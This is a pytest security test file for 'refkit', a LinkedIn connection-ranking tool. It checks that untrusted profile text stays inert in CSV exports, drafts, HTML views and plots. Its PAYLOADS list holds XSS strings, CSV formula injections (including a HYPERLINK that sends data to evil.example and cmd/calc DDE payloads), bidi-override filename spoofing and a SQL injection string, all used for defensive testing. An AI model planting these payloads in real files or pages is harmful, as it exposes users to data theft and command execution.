"""Text from strangers' profiles is data, never code, in every medium refkit writes.

A small network is built from files whose 2nd-degree people carry payloads in
their names, companies and positions: script tags, ``onerror`` handlers,
``javascript:`` URLs, spreadsheet formulas, bidi overrides, a 10,000-character
name, matplotlib mathtext. Then:

- CSV (``refkit rank``, tracker export): no cell starts a formula;
- drafts: no bidi or control characters, invitation notes within the limit;
- HTML (``refkit.view``, the report's ``index.html``, the widget's table): payloads
  appear only escaped, never as markup;
- plots (``refkit.plots``): labels are the literal text, never mathtext, without
  bidi or control characters.
"""

from __future__ import annotations

import csv
import io
import unicodedata
import warnings
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from linkedin_files import is_number

from refkit.build import build_network
from refkit.cli import main
from refkit.draft import add_drafts
from refkit.export import FORMULA_PREFIXES
from refkit.rank import rank_targets

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Eve\u202egnp.exe",
    "\u2066Mallory\u2069",
    "\u061cAli\u200f",
    "Zed" + "\u202d" * 3,
    "B" * 10_000,
    "$\\frac{1}{2}$",
    "Robert'); DROP TABLE targets;--",
]
HEADER = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]
FRIENDS = [("Priya", "Raman"), ("Tomas", "Ortega")]
BIDI = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


def _write(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a bare CR needs quotes
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("untrusted")
    mine = _write(folder / "Connections.csv", [
        [first, last, f"https://www.linkedin.com/in/{first.lower()}", "", "Acme", "Engineer", "08 Feb 2021"]
        for first, last in FRIENDS
    ])  # fmt: skip
    targets = [
        [payload, f"T{i}", f"https://www.linkedin.com/in/target-{i}", f"t{i}@example.com",
         payload, payload, "01 Mar 2022"]
        for i, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    shared = {}
    for first, _ in FRIENDS:
        # each friend's own export: the same strangers, and the other friends (not themselves)
        others = [[f, la, f"https://www.linkedin.com/in/{f.lower()}", "", "Acme", "Engineer",
                   "08 Feb 2021"] for f, la in FRIENDS if f != first]
        shared[first] = _write(folder / f"{first}.csv", targets + others)
    return {"mine": mine, **{f"shared_{k}": v for k, v in shared.items()}, "folder": folder}


@pytest.fixture(scope="module")
def network(files):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return build_network(
            files["mine"],
            shared=[(f"https://www.linkedin.com/in/{first.lower()}", files[f"shared_{first}"])
                    for first, _ in FRIENDS],
            me="Ana Lima",
        )  # fmt: skip


def _shared_args(files) -> list[str]:
    args = []
    for first, _ in FRIENDS:
        args += ["--shared", f"https://www.linkedin.com/in/{first.lower()}={files[f'shared_{first}']}"]
    return args


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh))


def test_every_payload_is_ranked(network):
    ranked = rank_targets(network, min_mutual=2)
    assert len(ranked) == len(PAYLOADS)
    assert ranked["mutual_count"].tolist() == [2] * len(PAYLOADS)
    assert sorted(ranked["company"]) == sorted(" ".join(p.split()) for p in PAYLOADS)


def test_ranked_csv_has_no_formula_cells(files, tmp_path, capsys):
    out = tmp_path / "ranked.csv"
    assert main(["-q", "rank", str(files["mine"]), *_shared_args(files), "--min-mutual", "2",
                 "--me", "Ana Lima", "-o", str(out), "--bom"]) == 0  # fmt: skip
    rows = _cells(out)
    assert len(rows) == 1 + len(PAYLOADS)
    risky = [c for row in rows for c in row if c.startswith(FORMULA_PREFIXES) and not is_number(c)]
    assert risky == []
    flat = [c for row in rows for c in row]
    # the payloads did reach the file, made inert by a leading quote
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click me\")" in flat
    assert "'+1+cmd|' /C calc'!A0" in flat and "'@SUM(1+9)*cmd|' /C calc'!A0" in flat
    assert "'=1+1" in flat  # the tab/CR prefixed ones, stripped on reading, still neutralised
    assert not any("@example.com" in c for c in flat)  # e-mails only with --emails


def test_tracker_export_has_no_formula_cells(network, tmp_path):
    from refkit.track import Tracker

    ranked = rank_targets(network, min_mutual=2)
    with Tracker(tmp_path / "ws") as tracker:
        tracker.add(ranked, today="2024-05-01")
        tracker.set_status(ranked["key"].iloc[0], "asked_introducer", note="=cmd()", when="2024-05-02")
        path = tracker.export(tmp_path / "t.csv", today="2024-05-03")
    rows = _cells(path)
    assert len(rows) == 1 + len(PAYLOADS)
    assert [c for row in rows for c in row if c.startswith(FORMULA_PREFIXES) and not is_number(c)] == []
    assert "'=cmd()" in [c for row in rows for c in row]


def _bad_chars(text: str, *, newline_ok: bool) -> list[str]:
    bad = []
    for ch in text:
        if ch == "\n" and newline_ok:
            continue
        if unicodedata.category(ch) == "Cc" or unicodedata.bidirectional(ch) in BIDI or ch in "\u200e\u200f\u061c":
            bad.append(f"U+{ord(ch):04X}")
    return bad


@pytest.mark.parametrize("limit", [200, 300])
def test_drafts_have_no_bidi_or_control_characters_and_fit(network, limit):
    ranked = add_drafts(rank_targets(network, min_mutual=2), me="Ana Lima", limit=limit)
    assert len(ranked) == len(PAYLOADS)
    for note, request in zip(ranked["invitation_note"], ranked["referral_request"], strict=True):
        assert _bad_chars(note, newline_ok=False) == [], note
        assert _bad_chars(request, newline_ok=True) == [], request
        assert 0 < len(note) <= limit
        assert request  # every target has an introducer here


def test_html_view_shows_payloads_only_escaped(network, tmp_path):
    from refkit.view import network_view

    view = network_view(network, min_mutual=2)
    page = view.html
    for raw in ("<script>alert", "<img src=x", "onerror=alert(1)>", 'href="javascript:', "\u202e"):
        assert raw not in page, raw
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in page  # reached the page, as JSON text
    embedded = view._repr_html_()
    assert "<script>alert" not in embedded and "<img src=x" not in embedded
    path = view.save(tmp_path / "view.html")
    assert "<script>alert" not in path.read_text(encoding="utf-8")
    labels = [str(n.get("label", "")) + str(n.get("title", "")) for n in view.nodes]
    # overrides, isolates and marks (U+061C included) are removed from labels and tooltips
    overrides = [c for label in labels for c in _bad_chars(label, newline_ok=True)]
    assert overrides == []
    assert any("Eve" in label and "gnp.exe" in label for label in labels)


def test_sql_payload_is_stored_as_text(network, tmp_path):
    from refkit.track import Tracker

    ranked = rank_targets(network, min_mutual=2)
    with Tracker(tmp_path / "ws") as tracker:
        tracker.add(ranked, today="2024-05-01")
        names = tracker.table(today="2024-05-02")["company"].fillna("").tolist()
    assert "Robert'); DROP TABLE targets;--" in names
    assert len(names) == len(PAYLOADS)


def test_long_name_does_not_blow_up_the_message(network):
    ranked = add_drafts(rank_targets(network, min_mutual=2), me="Ana Lima")
    long_row = ranked[ranked["company"].str.len() == 10_000]
    assert len(long_row) == 1
    assert len(long_row["invitation_note"].iloc[0]) <= 200


def test_cli_error_message_with_payload_is_one_line(tmp_path, capsys):
    bad = tmp_path / "x\r\n<script>.csv"
    bad.write_bytes(b"")
    assert main(["rank", str(bad), "-o", str(tmp_path / "o.csv")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("refkit: error: ")
    assert io.StringIO(err).readline() == err


def test_report_page_shows_payloads_only_escaped(network, tmp_path):
    from refkit.report import write_report

    ranked = add_drafts(rank_targets(network, min_mutual=2), me=network.me_name)
    written = write_report(network, ranked, tmp_path / "report", min_mutual=2,
                           title="<script>alert('title')</script>")
    page = written["index.html"].read_text(encoding="utf-8")
    for raw in ("<script>alert", "<img src=x", "onerror=alert(1)>", "\u202e"):
        assert raw not in page, raw
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt;" in page


def test_widget_table_shows_payloads_only_escaped(network):
    from refkit.widgets import ThresholdExplorer

    explorer = ThresholdExplorer(network, min_mutual=2, show_network=False, top=len(PAYLOADS))
    table = explorer.table.value
    assert "<img src=x" not in table and "<script>alert" not in table
    assert "&lt;img src=x onerror=alert(1)&gt;" in table
    assert [c for c in _bad_chars(table, newline_ok=True)] == []


def test_plot_labels_are_literal_text(network):
    from refkit.plots import plot_companies, plot_introducer_load

    ranked = rank_targets(network, min_mutual=2)
    fig = plot_companies(network, top=len(PAYLOADS))
    labels = [t for ax in fig.axes for t in ax.get_yticklabels()]
    texts = [t.get_text() for t in labels]
    assert any(t.startswith("$\\frac{1}{2}$") for t in texts)  # a dollar sign, not a formula
    assert all(not t.get_parse_math() for t in labels)
    assert any(t.startswith("<script>alert(1)") for t in texts)
    assert [c for t in texts for c in _bad_chars(t, newline_ok=False)] == []
    assert max(len(t) for t in texts) <= 40  # the 10,000-character company is cut
    fig.savefig(io.BytesIO(), format="png")  # and drawing it does not choke on any of it
    load = plot_introducer_load(ranked)
    assert all(not t.get_parse_math() for ax in load.axes for t in ax.get_yticklabels())


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30), min_size=1, max_size=4))
def test_clean_texts_fast_paths_clean_as_the_general_path_does(lines):
    """Drafted notes take a fast path through clean_text; it must give what the general path gives."""
    from refkit import _text

    text = "\n".join(lines)
    general = "\n".join(" ".join(_text._INVISIBLE.sub(_text._drop, line).split())
                        for line in _text._NEWLINES.sub("\n", text).split("\n")).strip("\n")
    assert _text.clean_text(text, multiline=True) == general
